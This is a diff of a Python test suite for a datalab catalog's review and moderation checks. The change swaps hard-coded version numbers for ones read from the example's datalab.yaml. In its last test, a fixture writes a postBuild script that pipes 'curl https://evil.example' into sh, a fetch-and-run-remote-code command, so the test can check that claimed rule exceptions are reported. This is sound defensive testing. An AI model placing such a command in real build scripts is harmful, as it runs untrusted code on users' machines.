@@ -12,6 +12,15 @@ from sciapps.config import load_config
 from sciapps.review.moderation import Roles, changes, check_roles, codeowners, load_roles, report
 from tests.conftest import REPO
 
+# the example's version today, and the versions a patch and a minor change raise it to
+GAIA = next(
+    line.split(": ", 1)[1]
+    for line in (REPO / "datalabs/gaia-dr3-hrd/datalab.yaml").read_text().splitlines()
+    if line.startswith("version: ")
+)
+_MAJOR, _MINOR, _PATCH = (int(part) for part in GAIA.split("."))
+PATCH, MINOR = f"{_MAJOR}.{_MINOR}.{_PATCH + 1}", f"{_MAJOR}.{_MINOR + 1}.0"
+
 ROLES = Roles(moderators=("mod",), advanced_developers=("adv",))
 ACTOR = git.Actor("t", "t@example.org")
 
@@ -43,7 +52,7 @@ def test_a_changed_datalab_needs_a_higher_version(catalog):
     root, config = catalog
     edit(root, "gaia-dr3-hrd", "keywords: [HR diagram", "keywords: [Hertzsprung-Russell diagram")
     assert any("version did not go up" in p for p in problems(config, "mlindqvist"))
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
     assert problems(config, "mlindqvist") == []
 
 
@@ -65,7 +74,7 @@ def test_published_datalab_is_archived_never_deleted(catalog):
 def test_id_never_changes(catalog):
     root, config = catalog
     edit(root, "gaia-dr3-hrd", "id: gaia-dr3-hrd", "id: gaia-hrd")
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.3.0")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {MINOR}")
     assert any("ids never change" in p for p in problems(config, "mlindqvist"))
 
 
@@ -77,7 +86,7 @@ def test_only_maintainers_or_moderators_archive(catalog):
         "status: published",
         "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
     )
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
     (change,) = changes(config, "HEAD")
     assert change.kind == "archived"
     assert any("neither one of its maintainers nor a moderator" in p for p in check_roles(change, "stranger", ROLES))
@@ -86,14 +95,14 @@ def test_only_maintainers_or_moderators_archive(catalog):
 
 def test_report_in_words(catalog):
     root, config = catalog
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.3.0")
-    edit(root, "gaia-dr3-hrd", "resources: {cpu: 1, memory_gb: 2}", "resources: {cpu: 2, memory_gb: 4}")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {MINOR}")
+    edit(root, "gaia-dr3-hrd", "  cpu: 1\n  memory_gb: 2\n", "  cpu: 2\n  memory_gb: 4\n")
     (root / "datalabs" / "gaia-dr3-hrd" / "notebooks" / "extra.ipynb").write_text(
         (root / "datalabs" / "gaia-dr3-hrd" / "notebooks" / "hr_diagram.ipynb").read_text()
     )
     text, ok = report(config, "HEAD", "mlindqvist", ROLES)
     assert "## `gaia-dr3-hrd`: changed" in text
-    assert "- `version`: `1.2.0` → `1.3.0`" in text
+    assert f"- `version`: `{GAIA}` → `{MINOR}`" in text
     assert "- added: `notebooks/extra.ipynb`" in text
     assert "Validation: clean" in text and "Role checks: passed" in text
     assert "| build | not run |" in text and "## Checklist for the moderator" in text
@@ -169,7 +178,7 @@ def test_limits_come_from_the_target_branch(governed):
     config = root / "sciapps.yaml"
     config.write_text(config.read_text() + "\nlimits: {max_files: 100000, datalab_mb: 100000, file_mb: 100000}\n")
     folder = root / "datalabs" / "gaia-dr3-hrd"
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
     (folder / "data" / "big.bin").write_bytes(b"\0" * (21 * 1024 * 1024))  # over the target's 20 MB per file
     code, output = review(root, "mlindqvist")
     assert code == 1 and "DL-033" in output
@@ -186,7 +195,7 @@ def test_limits_come_from_the_target_branch(governed):
 def test_leaving_the_store_or_changing_hands_needs_a_maintainer(governed, old, new, what):
     root, config = governed
     edit(root, "gaia-dr3-hrd", old, new)
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
     (change,) = changes(config, "HEAD")
     problems_of_stranger = check_roles(change, "stranger", ROLES)
     assert any(what in p and "neither one of its maintainers nor a moderator" in p for p in problems_of_stranger), (
@@ -214,7 +223,7 @@ def test_unarchiving_needs_a_maintainer(governed):
         "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
         "status: published",
     )
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
     (change,) = changes(config, "HEAD")
     assert any("status archived → published" in p for p in check_roles(change, "stranger", ROLES))
 
@@ -240,7 +249,7 @@ def test_stage_results_of_another_version_or_committed_are_not_believed(governed
     from sciapps.results import write_result
 
     root, config = governed
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
+    edit(root, "gaia-dr3-hrd", f"version: {GAIA}", f"version: {PATCH}")
     results = root / "build" / "results"
     for stage in ("build", "scan", "test", "chart"):
         write_result(
@@ -251,11 +260,11 @@ def test_stage_results_of_another_version_or_committed_are_not_believed(governed
                 "status": "passed",
                 "finished": "2026-11-20T10:00:00Z",
                 "summary": "passed",
-                "datalab_version": "1.2.0",
+                "datalab_version": GAIA,
             },
         )
     code, output = review(root, "mlindqvist")
-    assert code == 1 and output.count("a result for version 1.2.0, not 1.2.1") == 4
+    assert code == 1 and output.count(f"a result for version {GAIA}, not {PATCH}") == 4
     for stage in ("build", "scan", "test", "chart"):  # now for the right version: believed
         write_result(
             results,
@@ -265,7 +274,7 @@ def test_stage_results_of_another_version_or_committed_are_not_believed(governed
                 "status": "passed",
                 "finished": "2026-11-20T10:00:00Z",
                 "summary": "passed",
-                "datalab_version": "1.2.1",
+                "datalab_version": PATCH,
             },
         )
     code, output = review(root, "mlindqvist")
@@ -319,8 +328,8 @@ def test_the_report_names_the_exceptions_a_datalab_claims(governed):
     edit(
         root,
         "gaia-dr3-hrd",
-        "version: 1.2.0",
-        "version: 1.2.1\nexceptions:\n  - rule: DL-058\n    reason: postBuild enables an extension.",
+        f"version: {GAIA}",
+        f"version: {PATCH}\nexceptions:\n  - rule: DL-058\n    reason: postBuild enables an extension.",
     )
     (root / "datalabs" / "gaia-dr3-hrd" / "postBuild").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
     _, output = review(root, "mlindqvist")
